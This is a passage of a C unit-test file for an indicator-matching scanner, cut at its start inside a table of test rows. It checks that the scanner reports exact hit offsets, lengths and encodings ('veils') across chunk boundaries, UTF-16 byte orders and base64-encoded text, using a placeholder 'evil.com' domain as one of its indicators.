	{ "(7)notevil(3)com(0) (4)evil(3)com(3)org(0)" },
};

/* Where `written` stands in the row's text, behind the place of the hit before it. */
static size_t place_of(const struct row *row, const struct expected *expected)
{
	size_t at = span_find(span_of(row->text), span_of(expected->written));

	if (at == SPAN_NONE)
		test_fail("row '%s' does not hold '%s'", row->text, expected->written);
	return at;
}

static bool same_hit(const struct kit *k, const struct hit *hit, const struct row *row,
		     const struct expected *x, size_t shift, size_t scale)
{
	return span_equal(kit_value(k, hit->indicator), span_of(x->value)) &&
	       hit->offset == shift + scale * place_of(row, x) &&
	       hit->length == scale * strlen(x->written) && hit->port == x->port &&
	       hit->veil == (scale == 2 ? x->veil | VEIL_UTF16 : x->veil);
}

static void complain(const struct kit *k, const struct row *row)
{
	print_error("in: %s\n", row->text);
	for (size_t i = 0; i < k->count; i++)
		print_error("  hit %.*s at %llu+%u veil 0x%x port %u\n",
			    SPAN_ARG(kit_value(k, k->hit[i].indicator)),
			    (unsigned long long)k->hit[i].offset, k->hit[i].length, k->hit[i].veil,
			    k->hit[i].port);
}

/* Exactly the hits of the row are in k->hit. */
static bool check_row(const struct kit *k, const struct row *row, size_t shift, size_t scale)
{
	size_t expected = 0;
	bool good = true;

	for (; expected < 4 && row->hit[expected].value; expected++) {
		bool found = false;

		for (size_t i = 0; i < k->count; i++)
			found = found || same_hit(k, &k->hit[i], row, &row->hit[expected], shift, scale);
		good = good && found;
	}
	good = good && k->count == expected;
	for (size_t i = 1; i < k->count; i++)
		good = good && k->hit[i - 1].offset <= k->hit[i].offset;
	if (!good)
		complain(k, row);
	return good;
}

#define ROWS (sizeof(rows) / sizeof(*rows))

static void open_all(struct kit *k)
{
	struct error e;

	assert_int_equal(host_prepare(&e), 0);
	kit_open(k, indicators, sizeof(indicators) / sizeof(*indicators));
}

TEST(every_line_of_the_table_gives_exactly_its_hits)
{
	struct kit k;
	size_t bad = 0;

	open_all(&k);
	for (size_t i = 0; i < ROWS; i++) {
		kit_text(&k, span_of(rows[i].text), false);
		bad += !check_row(&k, &rows[i], 0, 1);
	}
	assert_int_equal(bad, 0);
	kit_close(&k);
}

TEST(a_line_gives_the_same_at_every_place_of_a_chunk)
{
	static const size_t shifts[] = { 1, 7, 15, 16, 48, 63, 64, 127, 8100, 8150, 8180, 8191, 8192, 16380 };
	struct kit k;
	size_t bad = 0;

	open_all(&k);
	for (size_t n = 0; n < sizeof(shifts) / sizeof(*shifts); n++) {
		char *text = malloc(shifts[n] + 1000);

		for (size_t i = 0; i < ROWS; i++) {
			size_t len = strlen(rows[i].text);

			memset(text, ' ', shifts[n] + 1000);
			memcpy(text + shifts[n], rows[i].text, len);
			kit_text(&k, span_make(text, shifts[n] + len), false);
			bad += !check_row(&k, &rows[i], shifts[n], 1);
		}
		free(text);
	}
	assert_int_equal(bad, 0);
	kit_close(&k);
}

static bool is_ascii(const char *text)
{
	for (; *text; text++)
		if ((unsigned char)*text >= 0x80)
			return false;
	return true;
}

TEST(utf16_strings_in_bytes_give_the_same_at_both_alignments_and_byte_orders)
{
	char text[4096];
	struct kit k;
	size_t bad = 0;

	open_all(&k);
	for (size_t i = 0; i < ROWS * 4; i++) {
		const struct row *row = &rows[i / 4];
		size_t shift = 4 + (i & 1), big = i >> 1 & 1, len = strlen(row->text);

		if (!is_ascii(row->text) || len < 4 || len > 1500)
			continue;
		memset(text, '\xff', sizeof(text));
		for (size_t c = 0; c < len; c++) {
			text[shift + 2 * c + big] = row->text[c];
			text[shift + 2 * c + !big] = '\0';
		}
		kit_text(&k, span_make(text, shift + 2 * len + 8), true);
		bad += !check_row(&k, row, shift, 2);
	}
	assert_int_equal(bad, 0);
	kit_close(&k);
}

TEST(a_line_in_base64_gives_its_indicators_again)
{
	static const char alphabet[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char text[4096];
	struct kit k;

	open_all(&k);
	for (size_t i = 0; i < ROWS; i++) {
		size_t len = strlen(rows[i].text), n = 0;

		if (!is_ascii(rows[i].text) || len < 12 || len > 1500)
			continue;
		for (size_t at = 0; at + 3 <= len; at += 3) {
			uint32_t group = (uint32_t)rows[i].text[at] << 16 |
					 (uint32_t)rows[i].text[at + 1] << 8 |
					 (uint32_t)rows[i].text[at + 2];

			for (int shift = 18; shift >= 0; shift -= 6)
				text[n++] = alphabet[group >> shift & 63];
		}
		/* Only rows that the encoding does not cut short. */
		if (len % 3)
			continue;
		kit_text(&k, span_make(text, n), false);
		for (size_t x = 0; x < 4 && rows[i].hit[x].value; x++) {
			bool found = false;

			for (size_t h = 0; h < k.count; h++)
				found = found || (span_equal(kit_value(&k, k.hit[h].indicator),
							     span_of(rows[i].hit[x].value)) &&
						  k.hit[h].veil & VEIL_BASE64);
			if (!found && !(rows[i].hit[x].veil & VEIL_BASE64))
				test_fail("not found in base64: %s", rows[i].text);
		}
	}
	kit_close(&k);
}
